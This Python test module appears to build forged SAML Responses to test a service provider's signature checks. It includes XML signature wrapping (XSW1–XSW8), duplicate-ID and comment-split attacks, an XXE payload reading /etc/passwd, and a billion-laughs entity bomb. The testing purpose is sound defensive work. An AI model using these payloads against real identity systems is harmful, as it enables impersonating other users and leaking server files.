"""The attacks on a SAML SP, each made by the forge (`saml_forge.py`) from genuine signed XML.

Every function here is a `Build`: (forge, statement) -> Response XML. The XML signature wrapping
family follows Somorovsky et al., "On Breaking SAML" (2012), as SAML Raider numbers it: XSW1-2 move
a signed Response, XSW3-8 put an evil assertion beside, around or over a signed one; the
duplicate-ID variants aim at a verifier that looks an ID up and checks a different element from
the one it then reads.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace

from tests.upstream.saml.saml_forge import GIVEN_NAME, HETU, Build, Forge, Statement, new_id

VICTIM = "010469-999W"  # whom the attacker wants to be

_SIGNATURE_RE = re.compile(r"<ds:Signature\b.*?</ds:Signature>", re.DOTALL)


# -- splicing signed XML -------------------------------------------------------------------------


def signature_of(xml: str) -> str:
    """The first ds:Signature in `xml`: an assertion's or a Response's own."""
    match = _SIGNATURE_RE.search(xml)
    if match is None:
        raise ValueError("no ds:Signature")
    return match[0]


def without_signature(xml: str) -> str:
    return _SIGNATURE_RE.sub("", xml, count=1)


def after(xml: str, marker: str, fragment: str) -> str:
    """`fragment` inserted right after the first `marker` (typically a closing tag)."""
    at = xml.index(marker) + len(marker)
    return xml[:at] + fragment + xml[at:]


def before(xml: str, marker: str, fragment: str) -> str:
    at = xml.index(marker)
    return xml[:at] + fragment + xml[at:]


def with_signature_object(signature: str, content: str) -> str:
    """The ds:Signature with a ds:Object holding `content` (where XSW hides a signed element)."""
    return before(signature, "</ds:Signature>", f"<ds:Object>{content}</ds:Object>")


# -- the attacks ---------------------------------------------------------------------------------


def evil(s: Statement, *, same_id: bool = False) -> Statement:
    """What the attacker wants asserted: the victim, under a new assertion ID or the genuine's."""
    return replace(
        s,
        attributes={HETU: VICTIM, GIVEN_NAME: "Eve"},
        assertion_id=s.assertion_id if same_id else new_id(),
    )


def genuine(forge: Forge, s: Statement) -> str:
    return forge.genuine(s)


def spoiled(change: Callable[[Statement], Statement]) -> Build:
    """A genuine, fully signed answer to a spoiled statement (wrong audience, expired...)."""
    return lambda forge, s: forge.genuine(change(s))


def unsigned(forge: Forge, s: Statement) -> str:
    return forge.response(s, forge.encrypted(forge.assertion(s, signed=False)), signed=False)


def signed_by_impostor(*, assertion: bool, response: bool) -> Build:
    """Signed throughout, but by a key in no metadata where asked (its certificate in KeyInfo)."""

    def build(forge: Forge, s: Statement) -> str:
        body = forge.encrypted(forge.assertion(s, key=forge.impostor if assertion else None))
        return forge.response(s, body, key=forge.impostor if response else None)

    return build


def only_response_signed(forge: Forge, s: Statement) -> str:
    return forge.response(s, forge.encrypted(forge.assertion(s, signed=False)))


def only_assertion_signed(forge: Forge, s: Statement) -> str:
    return forge.response(s, forge.encrypted(forge.assertion(s)), signed=False)


def in_clear(forge: Forge, s: Statement) -> str:
    """The assertion signed, not encrypted; the Response unsigned (an organisation's IdP)."""
    return forge.response(s, forge.assertion(s), signed=False)


# XML signature wrapping. Response level (XSW1, XSW2): the IdP signs only the Response, so an
# evil Response carries the signed one where the signature check might still find it.


def xsw1_signed_response_in_signature_object(forge: Forge, s: Statement) -> str:
    signed = only_response_signed(forge, s)
    moved = with_signature_object(signature_of(signed), without_signature(signed))
    return after(_evil_response(forge, s), "</saml:Issuer>", moved)


def xsw2_signed_response_before_signature(forge: Forge, s: Statement) -> str:
    signed = only_response_signed(forge, s)
    moved = without_signature(signed) + signature_of(signed)
    return after(_evil_response(forge, s), "</saml:Issuer>", moved)


def xsw_signed_response_in_extensions_same_id(forge: Forge, s: Statement) -> str:
    signed = only_response_signed(forge, s)
    evil_response = _evil_response(forge, s, extensions=signed, response_id=s.response_id)
    return after(evil_response, "</saml:Issuer>", signature_of(signed))


def _evil_response(forge: Forge, s: Statement, **response: str) -> str:
    body = forge.encrypted(forge.assertion(evil(s), signed=False))
    return forge.response(evil(s), body, signed=False, **response)


# Assertion level (XSW3-XSW8): the IdP signs only the assertion and the Response is unsigned, so
# the attacker re-encrypts freely; the evil assertion sits beside, around or over the signed one.


def xsw3_evil_before_signed(forge: Forge, s: Statement) -> str:
    body = forge.encrypted(forge.assertion(evil(s), signed=False), forge.assertion(s))
    return forge.response(s, body, signed=False)


def xsw3_evil_before_signed_each_encrypted(forge: Forge, s: Statement) -> str:
    evil_one = forge.encrypted(forge.assertion(evil(s), signed=False))
    return forge.response(s, evil_one + forge.encrypted(forge.assertion(s)), signed=False)


def xsw3_evil_before_signed_in_clear(forge: Forge, s: Statement) -> str:
    body = forge.assertion(evil(s), signed=False) + forge.assertion(s)
    return forge.response(s, body, signed=False)


def xsw4_evil_after_signed(forge: Forge, s: Statement) -> str:
    body = forge.encrypted(forge.assertion(s), forge.assertion(evil(s), signed=False))
    return forge.response(s, body, signed=False)


def xsw4_evil_wraps_signed(forge: Forge, s: Statement) -> str:
    wrapper = forge.assertion(evil(s), signed=False).removesuffix("</saml:Assertion>")
    body = forge.encrypted(wrapper + forge.assertion(s) + "</saml:Assertion>")
    return forge.response(s, body, signed=False)


def xsw5_evil_carries_signature_unsigned_copy_after(forge: Forge, s: Statement) -> str:
    signed = forge.assertion(s)
    carrier = after(forge.assertion(evil(s), signed=False), "</saml:Issuer>", signature_of(signed))
    return forge.response(s, forge.encrypted(carrier, without_signature(signed)), signed=False)


def xsw6_signed_in_evil_signature_object(forge: Forge, s: Statement) -> str:
    signed = forge.assertion(s)
    moved = with_signature_object(signature_of(signed), signed)
    carrier = after(forge.assertion(evil(s), signed=False), "</saml:Issuer>", moved)
    return forge.response(s, forge.encrypted(carrier), signed=False)


def xsw7_signed_in_extensions(forge: Forge, s: Statement) -> str:
    body = forge.encrypted(forge.assertion(evil(s), signed=False))
    return forge.response(s, body, signed=False, extensions=forge.assertion(s))


def xsw8_unsigned_copy_in_evil_signature_object(forge: Forge, s: Statement) -> str:
    signed = forge.assertion(s)
    moved = with_signature_object(signature_of(signed), without_signature(signed))
    carrier = after(forge.assertion(evil(s), signed=False), "</saml:Issuer>", moved)
    return forge.response(s, forge.encrypted(carrier), signed=False)


def duplicate_id(where: str, *, encrypt: bool = True) -> Build:
    """The evil assertion takes the genuine's ID and carries its signature, while the signed
    genuine sits earlier in the document (`extensions`, `status_detail`) or inside the evil one
    (`advice`): a verifier that looks the ID up may check the genuine and trust the evil."""

    def build(forge: Forge, s: Statement) -> str:
        signed = forge.assertion(s)
        carrier = forge.assertion(evil(s, same_id=True), signed=False)
        carrier = after(carrier, "</saml:Issuer>", signature_of(signed))
        if where == "advice":
            carrier = after(carrier, "</saml:Conditions>", f"<saml:Advice>{signed}</saml:Advice>")
        body = forge.encrypted(carrier) if encrypt else carrier
        if where == "extensions":
            return forge.response(s, body, signed=False, extensions=signed)
        xml = forge.response(s, body, signed=False)
        if where == "status_detail":
            detail = f"<samlp:StatusDetail>{signed}</samlp:StatusDetail>"
            xml = before(xml, "</samlp:Status>", detail)
        return xml

    return build


def evil_inside_signed_advice(forge: Forge, s: Statement) -> str:
    advice = f"<saml:Advice>{forge.assertion(evil(s), signed=False)}</saml:Advice>"
    tampered = after(forge.assertion(s), "</saml:Conditions>", advice)
    return forge.response(s, forge.encrypted(tampered), signed=False)


def evil_swapped_in_under_response_signature(forge: Forge, s: Statement) -> str:
    """Suomi.fi signs both: the attacker swaps in an evil assertion, signed with the IdP's key
    (as if stolen from another login) and encrypted anew, under the Response's signature."""
    genuine = forge.genuine(s)
    start, end = genuine.index("<saml:EncryptedAssertion"), genuine.index("</samlp:Response>")
    return genuine[:start] + forge.encrypted(forge.assertion(evil(s))) + genuine[end:]


# Text split by a comment, a CDATA section or a processing instruction (CVE-2017-11427): exclusive
# c14n drops comments, so the signature still holds, while a reader that takes the first text node
# would see only the part before the split.


def split_value(value: str, at: int, splitter: str) -> Build:
    """The signed `value` (a NameID or attribute value) split at `at`: the text from there on
    is replaced by `splitter`, in which REST stands for that text ("<!---->REST"). The assertion
    is re-encrypted and the Response left unsigned, as an attacker can."""

    def build(forge: Forge, s: Statement) -> str:
        signed = forge.assertion(s)
        split = value[:at] + splitter.replace("REST", value[at:])
        assert f">{value}<" in signed, "the value is not an element's whole text"
        tampered = signed.replace(f">{value}<", f">{split}<")
        return forge.response(s, forge.encrypted(tampered), signed=False)

    return build


# DTDs: external entities (XXE), entity expansion, and DTD-declared IDs.

XXE_FILE = '<!DOCTYPE samlp:Response [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
BILLION_LAUGHS = (
    '<!DOCTYPE samlp:Response [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
DTD_DECLARED_ID = "<!DOCTYPE samlp:Response [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>"
VICTIM_ENTITY = f'<!DOCTYPE samlp:Response [<!ENTITY victim "{VICTIM}">]>'


def external_dtd(url: str) -> str:
    return f'<!DOCTYPE samlp:Response SYSTEM "{url}">'


def with_doctype(doctype: str, build: Build, *, entity: str = "") -> Build:
    """`build`'s Response after `doctype`, with `entity` (e.g. "&leak;") in its Status."""

    def doctyped(forge: Forge, s: Statement) -> str:
        xml = build(forge, s)
        return doctype + (after(xml, "<samlp:Status>", entity) if entity else xml)

    return doctyped


def entity_for_name_id(forge: Forge, s: Statement) -> str:
    """An assertion in clear whose NameID is `&victim;`, which expands to the signed value."""
    signed = forge.assertion(replace(s, name_id=VICTIM))
    body = signed.replace(f">{VICTIM}<", ">&victim;<")
    return VICTIM_ENTITY + forge.response(s, body, signed=False)
